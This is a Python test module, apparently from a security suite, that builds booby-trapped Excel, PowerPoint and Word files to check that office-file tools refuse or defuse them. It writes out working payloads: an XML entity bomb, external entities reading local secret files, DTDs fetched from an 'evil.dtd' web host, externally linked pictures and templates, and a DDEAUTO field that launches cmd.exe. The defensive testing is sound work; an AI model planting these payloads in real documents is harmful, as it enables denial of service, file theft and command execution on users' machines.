"""Office files that carry entities and parts from elsewhere."""

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from deskworld_kit import CallResult
from PIL import Image
from suite.attacks.model import Attack, Call, Scene

BOMB = (
    '<!DOCTYPE x [<!ENTITY a "boomboomboomboom">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 20}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
"""Nine entities that unfold to 400 gigabytes; `&i;` sets it off."""

RED = (255, 0, 0)
"""The colour of the picture outside, which no render may show."""


def patch(path: Path, parts: Mapping[str, Callable[[str], str]]) -> None:
    """Rewrite parts of an office file; a part that is not there is made from an empty text."""
    with zipfile.ZipFile(path) as package:
        content = {name: package.read(name) for name in package.namelist()}
    for name, change in parts.items():
        content[name] = change(content.get(name, b"").decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in content.items():
            made.writestr(name, data)


def with_doctype(doctype: str, old: str, new: str) -> Callable[[str], str]:
    """A part with a document type before its root, and a text replaced."""

    def change(xml: str) -> str:
        assert old in xml
        head, sign, rest = xml.partition("?>") if xml.startswith("<?xml") else ("", "", xml)
        return head + sign + doctype + rest.replace(old, new)

    return change


def book(scene: Scene) -> Path:
    """A workbook that says CELL."""
    from xlsxwriter import Workbook

    path = scene.root / "a.xlsx"
    with Workbook(str(path)) as made:
        made.add_worksheet("S").write("A1", "CELL")
    return path


def deck(scene: Scene) -> Path:
    """A deck of one slide that says TITLE."""
    from pptx import Presentation

    path = scene.root / "a.pptx"
    made = Presentation()
    made.slides.add_slide(made.slide_layouts[5]).shapes.title.text = "TITLE"
    made.save(str(path))
    return path


def document(scene: Scene) -> Path:
    """A text document that says WORDS."""
    from docx import Document

    path = scene.root / "a.docx"
    made = Document()
    made.add_paragraph("WORDS")
    made.save(str(path))
    return path


WHERE = {  # the part of each kind that says its words, and the words
    "a.xlsx": (book, "xl/sharedStrings.xml", "CELL"),
    "a.pptx": (deck, "ppt/slides/slide1.xml", "TITLE"),
    "a.docx": (document, "word/document.xml", "WORDS"),
}
READS: dict[str, tuple[Call, ...]] = {
    "a.xlsx": (
        ("get_workbook_info", {"path": "a.xlsx"}),
        ("read_range", {"path": "a.xlsx", "sheet": "S"}),
        ("write_range", {"path": "a.xlsx", "sheet": "S", "start": "B1", "values": [[1]]}),
        ("inspect", {"path": "a.xlsx"}),
        ("render", {"path": "a.xlsx"}),
    ),
    "a.pptx": (
        ("get_deck_info", {"path": "a.pptx"}),
        ("extract_deck_text", {"path": "a.pptx"}),
        ("set_slide_notes", {"path": "a.pptx", "slide": 1, "notes": "x"}),
        ("inspect", {"path": "a.pptx"}),
        ("render", {"path": "a.pptx"}),
    ),
    "a.docx": (
        ("get_document_info", {"path": "a.docx"}),
        ("read_document", {"path": "a.docx"}),
        ("insert_block", {"path": "a.docx", "text": "x"}),
        ("document_to_markdown", {"path": "a.docx", "overwrite": True}),
        ("inspect", {"path": "a.docx"}),
        ("render", {"path": "a.docx"}),
    ),
}


def entities(path: str, doctype: str, entity: str) -> Callable[[Scene], None]:
    """An office file with a document type, and an entity in place of its words."""

    def plant(scene: Scene) -> None:
        make, part, words = WHERE[path]
        declared = doctype.replace("{out}", str(scene.outside)).replace("{web}", scene.web)
        patch(make(scene), {part: with_doctype(declared, words, entity)})

    return plant


def entity_attack(name: str, path: str, doctype: str, entity: str) -> Attack:
    """Whatever opens it refuses it, or reads it without what the entity would bring."""

    def check(scene: Scene, results: list[CallResult]) -> None:
        assert all(len(result.text) < 20_000 for result in results), "it unfolded"

    return Attack(f"{name} in {path}", entities(path, doctype, entity), READS[path], may_refuse=True, harmless=check)


QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"A" * 100_000}">]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY a SYSTEM "file://{out}/secret.txt">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{web}/evil.dtd"> %p;]>'
DTD = '<!DOCTYPE x SYSTEM "http://{web}/evil.dtd">'


def red_outside(scene: Scene) -> Path:
    """A picture outside the workspace."""
    path = scene.outside / "red.png"
    Image.new("RGB", (200, 200), RED).save(path)
    return path


def no_red(scene: Scene, results: list[CallResult]) -> None:
    """No picture shows what lies outside."""
    shown = [picture for result in results for _, picture in result.pictures]
    assert shown, "nothing was rendered"
    for picture in shown:
        colors = Image.open(io.BytesIO(picture)).convert("RGB").getcolors(1 << 24) or []
        assert RED not in {color for _, color in colors}


def linked(path: str, target: str) -> Callable[[Scene], None]:
    """An office file whose picture lies elsewhere."""

    def plant(scene: Scene) -> None:
        red = red_outside(scene)
        own = scene.root / "own.png"
        Image.new("RGB", (20, 20), "blue").save(own)
        part = PICTURED[path](scene.root / path, str(own))
        folder, _, name = part.rpartition("/")
        address = target.replace("{out}", str(red.parent)).replace("{web}", scene.web)
        patch(
            scene.root / path,
            {
                f"{folder}/_rels/{name}.rels": lambda xml: re.sub(
                    r'Target="[./]*media/image1.png"', f'Target="{address}" TargetMode="External"', xml
                ),
                part: lambda xml: xml.replace("r:embed=", "r:link="),
            },
        )

    return plant


def pictured_deck(path: Path, picture: str) -> str:
    """A deck with a picture; gives the part that shows it."""
    from pptx import Presentation

    made = Presentation()
    made.slides.add_slide(made.slide_layouts[6]).shapes.add_picture(picture, 0, 0)
    made.save(str(path))
    return "ppt/slides/slide1.xml"


def pictured_document(path: Path, picture: str) -> str:
    """The same of a text document."""
    from docx import Document

    made = Document()
    made.add_picture(picture)
    made.save(str(path))
    return "word/document.xml"


def pictured_book(path: Path, picture: str) -> str:
    """The same of a workbook."""
    from xlsxwriter import Workbook

    with Workbook(str(path)) as made:
        sheet = made.add_worksheet("S")
        sheet.write("A1", "CELL")
        sheet.insert_image("B2", picture)
    return "xl/drawings/drawing1.xml"


PICTURED = {"a.pptx": pictured_deck, "a.docx": pictured_document, "a.xlsx": pictured_book}


def linked_document(scene: Scene) -> None:
    """A document with its template, a picture and a frame elsewhere."""
    path = document(scene)
    red = red_outside(scene)
    field = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> {code} \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in (
            f'INCLUDEPICTURE "http://{scene.web}/field.png"',
            f'INCLUDEPICTURE "{red}"',
            f'INCLUDETEXT "{scene.outside}/secret.txt"',
            f'INCLUDETEXT "http://{scene.web}/text.docx"',
            'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        )
    )
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    template = f'<Relationship Id="rId1" Type="{kind}/attachedTemplate" TargetMode="External" '
    patch(
        path,
        {
            "word/document.xml": lambda xml: xml.replace("<w:body>", f"<w:body>{field}"),
            "word/_rels/settings.xml.rels": lambda _: (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'{template}Target="http://{scene.web}/template.dotm"/></Relationships>'
            ),
            "word/settings.xml": lambda xml: xml.replace(
                "<w:zoom", f'<w:attachedTemplate xmlns:r="{kind}" r:id="rId1"/><w:zoom', 1
            ),
        },
    )


SHOWS: dict[str, tuple[Call, ...]] = {
    "a.pptx": (("render_slides", {"path": "a.pptx"}), ("export_deck_pdf", {"path": "a.pptx"})),
    "a.docx": (
        ("document_to_markdown", {"path": "a.docx"}),
        ("insert_block", {"path": "a.docx", "text": "x"}),
        ("render_document", {"path": "a.docx"}),
        ("export_document_pdf", {"path": "a.docx"}),
        ("inspect", {"path": "a.docx"}),
    ),
    "a.xlsx": (
        ("render_range", {"path": "a.xlsx", "sheet": "S", "range": "A1:D9"}),
        ("list_sheet_objects", {"path": "a.xlsx"}),
        ("export_workbook_pdf", {"path": "a.xlsx", "target": "a.pdf"}),
    ),
}


ATTACKS = (
    *(entity_attack("entity bomb", path, BOMB, "&i;") for path in WHERE),
    *(entity_attack("one long entity many times", path, QUADRATIC, "&a;" * 5_000) for path in WHERE),
    *(entity_attack("a file as an entity", path, EXTERNAL, "&a;") for path in WHERE),
    *(entity_attack("a definition from the web", path, PARAMETER, "x") for path in WHERE),
    *(entity_attack("a document type from the web", path, DTD, "x") for path in WHERE),
    *(
        Attack(f"a picture from {where} in {path}", linked(path, target), SHOWS[path], harmless=no_red)
        for path in PICTURED
        for where, target in (
            ("the web", "http://{web}/a.png"),
            ("outside", "file://{out}/red.png"),
            ("above", "../outside/red.png"),
        )
    ),
    Attack(
        "a document with parts from elsewhere",
        linked_document,
        (
            ("insert_block", {"path": "a.docx", "text": "x"}),
            ("render_document", {"path": "a.docx"}),
            ("check_document", {"path": "a.docx"}),
            ("inspect", {"path": "a.docx"}),
        ),
        harmless=no_red,
    ),
)
